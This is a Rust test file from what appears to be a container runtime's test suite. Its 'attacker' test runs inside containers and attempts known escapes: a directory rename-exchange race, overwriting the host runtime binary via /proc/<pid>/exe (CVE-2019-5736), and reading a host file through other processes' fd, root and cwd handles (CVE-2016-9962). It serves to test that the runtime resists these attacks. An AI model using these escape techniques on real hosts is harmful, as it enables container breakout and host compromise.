//! What runs inside a container and attacks: this very test program, called with `SAMPAN_ATTACK`.

use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsFd;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use rustix::fs::{CWD, Mode, OFlags, RenameFlags, openat, renameat_with};
use rustix::mount::{MountFlags, OpenTreeFlags, open_tree};
use sys::mount_attr::{MountAttr, RDONLY, mount_setattr};

use crate::common::Bench;
use crate::mount;

/// Longer than any test needs; nobody runs for ever where a test was killed.
const LONGEST: Duration = Duration::from_secs(120);

/// Brings this program and the host's libraries into the container.
pub(crate) fn bring(b: &mut Bench) {
    let own = std::env::current_exe().expect("own program");
    b.spec.mounts.push(mount("/attack", "bind", own.to_str().expect("path"), &["bind", "ro"]));
    b.spec.mounts.push(mount("/usr", "bind", "/usr", &["rbind", "ro"]));
    for name in ["lib", "lib64"] {
        std::os::unix::fs::symlink(format!("usr/{name}"), b.rootfs().join(name)).expect("link");
    }
}

/// The shell's words that attack in the given way; `argument` is the attack's.
pub(crate) fn words(attack: &str, argument: &str) -> String {
    format!(
        "SAMPAN_ATTACK={attack} SAMPAN_ARGUMENT='{argument}' /attack --exact attacker::attacker --ignored --nocapture"
    )
}

#[test]
#[ignore = "it is called inside of containers, by other tests"]
fn attacker() {
    let argument = std::env::var("SAMPAN_ARGUMENT").unwrap_or_default();
    match std::env::var("SAMPAN_ATTACK").as_deref() {
        Ok("exchange") => exchange(&argument),
        Ok("overwrite") => overwrite(),
        Ok("look") => look(Path::new(&argument)),
        other => panic!("no such attack: {other:?}"),
    }
}

/// Swaps two names of a directory, as fast as it can. The argument is `directory:name:name`.
fn exchange(argument: &str) {
    let [directory, one, other] = argument.split(':').collect::<Vec<_>>()[..] else { panic!("{argument}") };
    let handle = openat(CWD, directory, OFlags::PATH | OFlags::DIRECTORY, Mode::empty()).expect("open");
    let end = Instant::now() + LONGEST;
    while Instant::now() < end {
        for _ in 0..1000 {
            renameat_with(&handle, one, &handle, other, RenameFlags::EXCHANGE).expect("exchange");
        }
    }
}

/// The processes that are not this one's, now.
fn others() -> Vec<PathBuf> {
    let own = std::process::id().to_string();
    let numbers = fs::read_dir("/proc").expect("proc").flatten().filter_map(|e| e.file_name().into_string().ok());
    numbers
        .filter(|n| n.bytes().all(|b| b.is_ascii_digit()) && *n != own && n != "1")
        .map(|n| Path::new("/proc").join(n))
        .collect()
}

/// Tries to write to the program of every process that appears, by way of its `exe` (CVE-2019-5736).
fn overwrite() {
    let end = Instant::now() + LONGEST;
    let mut tried = 0;
    while Instant::now() < end {
        for process in others() {
            let exe = process.join("exe");
            let flags = OFlags::PATH | OFlags::CLOEXEC;
            let Ok(handle) = openat(CWD, &exe, flags, Mode::empty()) else { continue };
            let name = fs::read_link(&exe).unwrap_or_default();
            if name.ends_with("busybox") {
                continue;
            }
            tried += 1;
            if tried == 1 {
                println!("tried {}", name.display());
            }
            // Make the mount writable, by all the ways that there are.
            let writable = MountAttr { clear: RDONLY, ..Default::default() };
            let changed = mount_setattr(handle.as_fd(), false, &writable).is_ok();
            let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&handle));
            let flags = MountFlags::BIND;
            let remounted = rustix::mount::mount_remount(path.as_str(), flags, c"").is_ok();
            let clone =
                OpenTreeFlags::OPEN_TREE_CLONE | OpenTreeFlags::AT_EMPTY_PATH | OpenTreeFlags::OPEN_TREE_CLOEXEC;
            let copied = open_tree(&handle, c"", clone)
                .is_ok_and(|tree| mount_setattr(tree.as_fd(), false, &writable).is_ok() && write(tree.as_fd()));
            if changed || remounted || copied || write(handle.as_fd()) {
                println!("written: {changed} {remounted} {copied}");
            }
        }
    }
}

fn write(handle: std::os::fd::BorrowedFd<'_>) -> bool {
    let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&handle));
    File::options().write(true).open(path).and_then(|mut f| f.write_all(b"broken")).is_ok()
}

/// Looks for the host's file through every handle of every process that appears (CVE-2016-9962).
fn look(secret: &Path) {
    let below = secret.strip_prefix("/").expect("absolute");
    let end = Instant::now() + LONGEST;
    let mut seen = 0;
    while Instant::now() < end {
        for process in others() {
            seen += 1;
            if seen == 1 {
                println!("seen {}", process.display());
            }
            let handles = fs::read_dir(process.join("fd")).into_iter().flatten().flatten().map(|e| e.path());
            for place in [process.join("root"), process.join("cwd")].into_iter().chain(handles) {
                for path in [place.join(below), place.join("../../../../../../../..").join(below)] {
                    if fs::read(&path).is_ok() {
                        println!("found {}", path.display());
                    }
                }
            }
        }
    }
}
